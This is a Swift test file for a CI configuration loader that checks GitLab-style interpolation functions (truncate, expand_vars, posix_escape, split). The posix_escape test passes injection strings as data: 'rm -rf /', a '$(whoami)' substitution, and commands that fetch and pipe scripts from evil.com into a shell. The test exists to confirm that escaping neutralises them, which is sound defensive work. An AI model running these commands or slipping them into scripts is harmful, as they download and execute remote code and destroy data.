import Testing
import GantryPipeline
import GantryTestSupport

/// The functions of `$[[ inputs.x | function ]]`, with the values and messages of GitLab's
/// interpolation/functions/*_spec.rb.
extension InputsTests {
    /// The script line a block makes from `value` (YAML text) given to input `v`.
    func line(_ block: String, value: String, variables: [String: String] = [:]) -> String? {
        let main = "include:\n  - local: ci/part.yml\n    inputs: {v: \(value)}\n"
        let part = "spec:\n  inputs:\n    v:\n      type: string\n---\njob:\n  script: ['\(block)']\n"
        let loader = ConfigLoader(source: MemorySource(files: ["ci/part.yml": part]), variables: variables)
        return loader.load(text: main, file: ".gitlab-ci.yml").config?.job(named: "job")?["script"]?.sequence?.first?.string
    }

    func failure(_ block: String, value: String) -> [String] {
        let main = "include:\n  - local: ci/part.yml\n    inputs: {v: \(value)}\n"
        let part = "spec:\n  inputs:\n    v:\n      type: number\n---\njob:\n  script: ['\(block)']\n"
        return errors(load(main, files: ["ci/part.yml": part]))
    }

    @Test func truncate() {
        #expect(line("$[[ inputs.v | truncate(1,2) ]]", value: "test") == "es")
        #expect(line("$[[ inputs.v | truncate( 1 , 5 ) ]]", value: "abcdef") == "bcdef")
        #expect(line("$[[ inputs.v | truncate(1,5)  | truncate(2,2) ]]", value: "abcdef") == "de")
        #expect(line("$[[ inputs.v | truncate(10,2) ]]", value: "abc") == "")
        #expect(failure("$[[ inputs.v | truncate(1,2) ]]", value: "100")
                == ["`ci/part.yml`: error in `truncate` function: invalid input type: truncate can only be used with string inputs"])
    }

    @Test func expandVars() {
        let variables = ["VAR1": "value1", "VAR2": "value2", "NESTED_VAR": "$MY_VAR"]
        #expect(line("$[[ inputs.v | expand_vars ]]", value: "$VAR1", variables: variables) == "value1")
        #expect(line("$[[ inputs.v | expand_vars ]]", value: "$NESTED_VAR", variables: variables) == "$MY_VAR")
        #expect(line("$[[ inputs.v | expand_vars ]]", value: "$UNKNOWN_VAR", variables: variables) == "$UNKNOWN_VAR")
        #expect(line("$[[ inputs.v | expand_vars ]]", value: "'${VAR1} $VAR2 %VAR1%'", variables: variables) == "value1 value2 value1")
        #expect(line("$[[ inputs.v | expand_vars | truncate(0,3) ]]", value: "$VAR1", variables: variables) == "val")
        // Without the function a variable reaches the job as written, to be expanded at run time.
        #expect(line("$[[ inputs.v ]]", value: "$VAR1", variables: variables) == "$VAR1")
        #expect(failure("$[[ inputs.v | expand_vars ]]", value: "100")
                == ["`ci/part.yml`: error in `expand_vars` function: invalid input type: expand_vars can only be used with string inputs"])
    }

    @Test func posixEscape() {
        #expect(line("cat $[[ inputs.v | posix_escape ]]", value: "'file.txt; rm -rf /'") == #"cat file.txt\;\ rm\ -rf\ /"#)
        #expect(line("$[[ inputs.v | posix_escape ]]", value: "'file_$(whoami).txt'") == #"file_\$\(whoami\).txt"#)
        #expect(line("$[[ inputs.v | posix_escape ]]", value: "'`curl evil.com/steal.sh | sh`'") == #"\`curl\ evil.com/steal.sh\ \|\ sh\`"#)
        #expect(line("$[[ inputs.v | posix_escape ]]", value: "\"file.txt\\nwget http://evil.com/malware.sh\"")
                == "file.txt'\n'wget\\ http://evil.com/malware.sh")
        #expect(line("$[[ inputs.v | posix_escape ]]", value: "''") == "''")
        #expect(failure("$[[ inputs.v | posix_escape ]]", value: "100")
                == ["`ci/part.yml`: error in `posix_escape` function: invalid input type: posix_escape can only be used with string inputs"])
    }

    @Test func split() throws {
        let main = "include:\n  - local: ci/part.yml\n    inputs: {v: 'a, b,,c'}\n"
        let part = "spec:\n  inputs:\n    v:\n---\njob:\n  script:\n    - echo start\n    - \"$[[ inputs.v | split(',') ]]\"\n"
        let r = load(main, files: ["ci/part.yml": part])
        #expect(r.config?.job(named: "job")?["script"]?.sequence?.compactMap(\.string) == ["echo start", "a", "b", "c"])
        let empty = load(main, files: ["ci/part.yml": part.replacingOccurrences(of: "split(',')", with: "split('')")])
        #expect(errors(empty) == ["`ci/part.yml`: error in `split` function: invalid argument: separator cannot be empty"])
    }
}
